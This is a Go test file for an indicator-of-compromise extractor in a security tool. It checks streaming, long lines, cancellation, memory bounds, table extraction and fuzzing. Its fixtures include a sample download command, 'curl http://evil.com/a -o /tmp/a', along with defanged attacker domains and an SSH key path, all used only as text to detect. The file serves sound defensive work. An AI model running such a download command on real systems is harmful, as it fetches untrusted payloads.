package ioc

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"runtime"
	"strings"
	"testing"
	"testing/iotest"

	"github.com/quarry-sec/quarry/engine/frame"
)

type lineMatch struct {
	Match
	line int
}

func readAll(t *testing.T, x *Extractor, r io.Reader) []lineMatch {
	t.Helper()
	var out []lineMatch
	err := x.ExtractReader(context.Background(), r, func(m Match, line int) error {
		out = append(out, lineMatch{m, line})
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// The stream gives what Extract gives line by line, with line numbers and
// stream offsets, across chunk boundaries and short reads.
func TestExtractReaderMatchesPerLine(t *testing.T) {
	text := mixedLog(3*ChunkSize + 12345)
	x, _ := New(Options{})
	got := readAll(t, x, iotest.HalfReader(bytes.NewReader(text)))
	var want []lineMatch
	off := 0
	for i, l := range bytes.SplitAfter(text, []byte("\n")) {
		for _, m := range x.Extract(l) {
			m.Start += off
			m.End += off
			want = append(want, lineMatch{m, i + 1})
		}
		off += len(l)
	}
	if len(got) != len(want) || len(got) < 1000 {
		t.Fatalf("got %d matches, want %d", len(got), len(want))
	}
	for i := range got {
		if got[i] != want[i] {
			t.Fatalf("match %d: got %+v want %+v", i, got[i], want[i])
		}
		switch m := got[i]; m.Type {
		case IPv4, DNS, MD5, SHA256, Email:
			if v := string(text[m.Start:m.End]); v != m.Value {
				t.Fatalf("match %+v: the stream offsets hold %q", m, v)
			}
		}
	}
}

// A line longer than a chunk is cut at a space and read in pieces; one with no
// space at all is cut anywhere, and nothing is lost before the cut.
func TestExtractReaderLongLines(t *testing.T) {
	var b strings.Builder
	for b.Len() < 3*ChunkSize {
		b.WriteString("10.1.2.3 evil.com ")
	}
	b.WriteString("\nlast 8.8.8.8\n")
	x, _ := New(Options{})
	got := readAll(t, x, strings.NewReader(b.String()))
	n := strings.Count(b.String(), "10.1.2.3")
	ips := 0
	for _, m := range got {
		if m.Value == "10.1.2.3" {
			ips++
			if m.line != 1 {
				t.Fatalf("line %d for a match on line 1", m.line)
			}
		}
	}
	if ips != n {
		t.Errorf("found %d of %d addresses on the long line", ips, n)
	}
	if last := got[len(got)-1]; last.Value != "8.8.8.8" || last.line != 2 {
		t.Errorf("last match %+v", last)
	}
	// No space anywhere: still no panic, and the stream ends.
	readAll(t, x, bytes.NewReader(bytes.Repeat([]byte("A"), 3*ChunkSize+7)))
}

func TestExtractReaderStops(t *testing.T) {
	x, _ := New(Options{})
	text := mixedLog(2 * ChunkSize)
	stop := errors.New("enough")
	n := 0
	err := x.ExtractReader(context.Background(), bytes.NewReader(text), func(Match, int) error {
		if n++; n == 10 {
			return stop
		}
		return nil
	})
	if !errors.Is(err, stop) || n != 10 {
		t.Errorf("callback error: got %v after %d", err, n)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if err := x.ExtractReader(ctx, bytes.NewReader(text), func(Match, int) error { return nil }); !errors.Is(err, context.Canceled) {
		t.Errorf("cancelled: got %v", err)
	}
	bad := errors.New("disk gone")
	if err := x.ExtractReader(context.Background(), iotest.ErrReader(bad), func(Match, int) error { return nil }); !errors.Is(err, bad) {
		t.Errorf("read error: got %v", err)
	}
}

// repeatReader yields block over and over until n bytes have gone.
type repeatReader struct {
	block []byte
	n, at int
}

func (r *repeatReader) Read(p []byte) (int, error) {
	if r.n <= 0 {
		return 0, io.EOF
	}
	k := 0
	for k < len(p) && r.n > 0 {
		c := copy(p[k:min(len(p), k+r.n)], r.block[r.at:])
		r.at = (r.at + c) % len(r.block)
		k += c
		r.n -= c
	}
	return k, nil
}

// Memory stays bounded however long the stream: 256 MiB of log text is read
// with the heap never above a few chunks' worth.
func TestExtractReaderBoundedMemory(t *testing.T) {
	if testing.Short() {
		t.Skip("reads 256 MiB")
	}
	block := mixedLog(ChunkSize)
	block = block[:bytes.LastIndexByte(block, '\n')+1]
	size := 256 << 20
	if raceEnabled {
		size = 64 << 20
	}
	x, _ := New(Options{})
	var peak uint64
	var ms runtime.MemStats
	n := 0
	err := x.ExtractReader(context.Background(), &repeatReader{block: block, n: size}, func(Match, int) error {
		if n++; n%200000 == 0 {
			runtime.ReadMemStats(&ms)
			peak = max(peak, ms.HeapInuse)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if n < size/200 {
		t.Fatalf("only %d matches in %d bytes", n, size)
	}
	if peak == 0 || peak > 64<<20 {
		t.Errorf("heap in use peaked at %d MiB reading %d MiB", peak>>20, size>>20)
	}
	t.Logf("%d MiB, %d matches, heap peak %d MiB", size>>20, n, peak>>20)
}

func TestExtractFrame(t *testing.T) {
	f, err := frame.New(
		&frame.Column{Name: "CommandLine", Kind: frame.String, Strings: []string{
			"curl http://evil.com/a -o /tmp/a", "ping 10.0.0.1 && ping 10.0.0.1", "", "nothing here"},
			Null: []bool{false, false, true, false}},
		&frame.Column{Name: "Port", Kind: frame.Int, Ints: []int64{80, 443, 22, 53}},
	)
	if err != nil {
		t.Fatal(err)
	}
	out, err := ExtractFrame(context.Background(), f, []string{"CommandLine"}, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(out.Names(), ","); got != "IoCType,Observable,SourceIndex,Input,Column" {
		t.Errorf("columns %s", got)
	}
	var rows []string
	for r := 0; r < out.Len(); r++ {
		rows = append(rows, fmt.Sprint(out.Value(r, 0), "|", out.Value(r, 1), "|", out.Value(r, 2), "|", out.Value(r, 4)))
	}
	want := []string{"url|http://evil.com/a|0|CommandLine", "dns|evil.com|0|CommandLine", "ipv4|10.0.0.1|1|CommandLine"}
	if strings.Join(rows, "\n") != strings.Join(want, "\n") {
		t.Errorf("rows\n%s\nwant\n%s", strings.Join(rows, "\n"), strings.Join(want, "\n"))
	}
	if out.Value(0, 3) != "curl http://evil.com/a -o /tmp/a" {
		t.Errorf("Input %v", out.Value(0, 3))
	}
	if _, err := ExtractFrame(context.Background(), f, []string{"Nope"}, Options{}); err == nil || !strings.Contains(err.Error(), `"Nope"`) {
		t.Errorf("missing column: %v", err)
	}
}

func FuzzExtract(f *testing.F) {
	for _, s := range []string{
		"hxxps://evil[.]com/a?u=http%3A%2F%2Fx.org", "bob[at]evil(.)net 10[.]0[.]0[.]1",
		`C:\\Windows\\x.exe \\srv\s\f .\a\b`, "::ffff:1.2.3.4 fe80::1%eth0 [2001:db8::1]",
		"http://[::1]:80/ http://user:p@h:1/p?q#f", "/usr/bin/x ~/.ssh/k ./r.sh", "\x1b[31mevil.com\x1b[0m",
	} {
		f.Add(s)
	}
	x, err := New(Options{Types: []Type{IPv4, IPv6, URL, DNS, Email, MD5, SHA1, SHA256, WindowsPath, LinuxPath, Hostname}})
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, s string) {
		ms := x.Extract([]byte(s))
		for i, m := range ms {
			if m.Start < 0 || m.End > len(s) || m.Start >= m.End || m.Value == "" {
				t.Fatalf("bad match %+v in %q", m, s)
			}
			if i > 0 && ms[i-1].Start > m.Start {
				t.Fatalf("matches out of order in %q", s)
			}
		}
	})
}
